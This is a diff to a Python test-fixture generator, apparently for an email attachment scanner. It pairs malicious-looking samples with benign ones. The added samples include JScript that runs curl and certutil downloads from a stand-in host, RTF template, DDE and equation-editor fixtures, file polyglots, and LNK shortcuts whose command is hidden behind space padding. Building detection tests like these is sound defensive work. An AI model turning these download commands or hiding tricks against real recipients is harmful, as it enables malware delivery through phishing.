@@ -5,7 +5,7 @@ The rules of named campaigns take theirs from mails.py."""
 import base64
 
 from mails import archive, fetches, macro, mail, HISTORY
-import bulk_mails, images, make_xlm, pdfs, windows
+import bulk_mails, images, make_rtf, make_xlm, pdfs, windows
 
 LINK = 'https://%s'
 FREE = 'Petra Lind <petra.lind@gmail.com>'
@@ -73,6 +73,20 @@ def attachments():
     section = windows.onenote
     yield 'attachment-onenote-program', a('n.one', section([('n.hta', b'<script>alert(1)</script><hta:application id=a>')])), \
         a('n.one', section([('n.txt', b'text')]))
+    run = b'new ActiveXObject("WScript.Shell").Run("%s");'
+    yield 'attachment-script-acts', a('n.js', run % b'curl http://a.test/x -o x.exe'), a('n.js', run % b'notepad')
+    yield 'attachment-command-line', a('n.js', run % b'certutil -urlcache -f http://a.test/x x.exe'), a('n.js', run % b'certutil -store my')
+    rtf = {name: data for name, data, _ in make_rtf.fixtures()}
+    calm = b'{\\rtf1 a note}'
+    yield 'attachment-remote-template', a('n.rtf', rtf['rtf_template.rtf']), a('n.rtf', calm)
+    yield 'attachment-dde', a('n.rtf', rtf['rtf_dde.rtf']), a('n.rtf', calm)
+    yield 'attachment-equation', a('n.rtf', rtf['rtf_equation.rtf']), a('n.rtf', calm)
+    behind = archive(('n.txt', b'text'))
+    yield 'attachment-two-files-in-one', a('n.pdf', pdf(b'', b'') + behind), a('n.zip', behind)
+    coded = base64.encodebytes(archive(('n.js', b'WScript.Echo(1)' * 9)))
+    yield 'attachment-built-program', a('n.txt', coded), a('n.txt', base64.encodebytes(b'plain words ' * 30))
+    yield 'attachment-hidden-padding', a('n.lnk', windows.lnk(0x20, windows.counted(' ' * 260 + '/c x'))), \
+        a('n.lnk', windows.lnk(0x20, windows.counted('/c x')))
     yield 'attachment-shortcut', a('n.lnk', windows.lnk(0x20, windows.counted('/c start x.js'))), a('n.url')
     yield 'attachment-pdf-picture-link', a('n.pdf', picture(pdfs.LINK)), a('n.pdf', picture(b''))
     yield 'qr-link', a('n.png', images.png(images.gray(images.qr()))), a('n.png', images.png(images.gray(images.qr('garden'))))
